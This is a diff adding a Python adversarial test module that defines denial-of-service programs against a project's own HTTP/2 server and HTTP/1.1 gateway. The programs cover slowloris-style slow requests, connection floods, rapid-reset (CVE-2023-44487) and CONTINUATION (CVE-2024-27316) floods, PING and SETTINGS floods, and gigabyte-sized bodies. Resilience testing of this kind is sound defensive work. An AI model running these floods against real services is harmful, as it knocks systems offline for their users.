@@ -1,0 +1,169 @@
+"""Attacks on HTTP/2 and on the gateway's HTTP/1.1: half-open, slow and senseless connections."""
+
+import asyncio
+import os
+from collections.abc import Awaitable, Callable
+
+from tests.adversary.programs.floods import KEYS
+from tests.adversary.programs.frames import (
+    CONTINUATION,
+    END_HEADERS,
+    HEADERS,
+    PING,
+    RESET,
+    SETTINGS,
+    connected,
+    frame,
+    header_block,
+    message,
+)
+from tests.adversary.programs.program import Program, Run
+
+from lostcities.v1 import server_pb2
+
+SLOW_S = 0.2
+"""Time between two bytes of a slow client."""
+BURST = 50
+CANCEL = (8).to_bytes(4, "big")
+
+
+async def _hold(run: Run) -> None:
+    async def attack(_: int) -> None:
+        async with connected(run) as client:
+            await client.until_closed()
+
+    await run.on_all(attack)
+
+
+async def _churn(run: Run) -> None:
+    async def attack(_: int) -> None:
+        async with connected(run):
+            pass
+
+    await run.on_all(attack)
+
+
+async def _slow_requests(run: Run) -> None:
+    body = message(server_pb2.GetKeysRequest().SerializeToString())
+    block = header_block(KEYS)
+
+    async def attack(_: int) -> None:
+        async with connected(run) as client:
+            for _call in range(10):
+                await client.call(block, body[:1], is_finished=False)
+            await client.until_closed()
+
+    await run.on_all(attack)
+
+
+async def _slow_frames(run: Run) -> None:
+    block = header_block(KEYS)
+
+    async def attack(_: int) -> None:
+        async with connected(run) as client:
+            data = frame(HEADERS, END_HEADERS, client.next_stream(), block)
+            async for number in run.turns(SLOW_S):
+                await client.send(data[number : number + 1] or frame(PING, 0, 0, bytes(8)))
+
+    await run.on_all(attack)
+
+
+async def _rapid_resets(run: Run) -> None:
+    block = header_block(KEYS)
+
+    async def attack(_: int) -> None:
+        async with connected(run) as client:
+            async for _turn in run.turns():
+                streams = [client.next_stream() for _ in range(BURST)]
+                await client.send(
+                    b"".join(
+                        frame(HEADERS, END_HEADERS, stream, block) + frame(RESET, 0, stream, CANCEL)
+                        for stream in streams
+                    )
+                )
+
+    await run.on_all(attack)
+
+
+def _same_frames(data: bytes, begin: bytes = b"") -> Callable[[Run], Awaitable[None]]:
+    async def run_flood(run: Run) -> None:
+        async def attack(_: int) -> None:
+            async with connected(run) as client:
+                await client.send(begin)
+                async for _turn in run.turns():
+                    await client.send(data * BURST)
+
+        await run.on_all(attack)
+
+    return run_flood
+
+
+async def _web(run: Run, first: bytes, more: bytes, pause_s: float) -> None:
+    """Send something to the gateway on each connection, and then more of it for as long as the gateway takes it."""
+    host, _, port = run.target.web.rpartition(":")
+
+    async def attack(_: int) -> None:
+        reader, writer = await asyncio.open_connection(host, int(port), local_addr=(run.target.source, 0))
+        run.tally.connections += 1
+        run.tally.calls += 1
+        try:
+            writer.write(first)
+            async for _turn in run.turns(pause_s):
+                writer.write(more)
+                run.tally.bytes += len(more)
+                await writer.drain()
+                if reader.at_eof():
+                    raise ConnectionResetError
+        finally:
+            writer.transport.abort()
+
+    await run.on_all(attack)
+
+
+async def _slow_web(run: Run) -> None:
+    await _web(run, b"GET / HTTP/1.1\r\nHost: raw\r\n", b"X-More: 1\r\n", SLOW_S)
+
+
+async def _large_web(run: Run) -> None:
+    head = b"POST /api/session HTTP/1.1\r\nHost: raw\r\nContent-Type: application/json\r\n"
+    head += b"Content-Length: 1000000000\r\n\r\n"
+    await _web(run, head, os.urandom(65_536), 0)
+
+
+async def _web_streams(run: Run) -> None:
+    await _web(run, b"GET /api/changes HTTP/1.1\r\nHost: raw\r\n\r\n", b"", SLOW_S)
+
+
+PROTOCOL = (
+    Program(
+        "slow requests",
+        "Begin calls on many connections and never send the rest of their requests (slowloris).",
+        _slow_requests,
+        connections=200,
+    ),
+    Program("slow frames", "Send the headers of a call byte by byte.", _slow_frames, connections=200),
+    Program(
+        "connection flood",
+        "Open connections and call nothing, more of them than one network may have.",
+        _hold,
+        connections=1_200,
+    ),
+    Program("connection churn", "Connect and leave, again and again.", _churn, connections=20),
+    Program(
+        "rapid resets",
+        "Begin calls and cancel each at once, so that they never count as open (CVE-2023-44487).",
+        _rapid_resets,
+        connections=4,
+    ),
+    Program("PING flood", "Send pings, each of which wants an answer.", _same_frames(frame(PING, 0, 0, bytes(8))), 4),
+    Program("SETTINGS flood", "Send settings, each of which wants an answer.", _same_frames(frame(SETTINGS, 0, 0)), 4),
+    Program(
+        "CONTINUATION flood",
+        "Begin headers that never end, for a server that keeps them all (CVE-2024-27316).",
+        _same_frames(frame(CONTINUATION, 0, 1, b"\0\1a\1b" * 200), begin=frame(HEADERS, 0, 1, b"")),
+        4,
+    ),
+    Program("gateway: slow requests", "Send headers to the gateway line by line.", _slow_web, connections=200),
+    Program("gateway: oversized bodies", "Send the gateway bodies of a gigabyte.", _large_web, connections=10),
+    Program("gateway: many streams", "Open streams of changes at the gateway.", _web_streams, connections=300),
+)
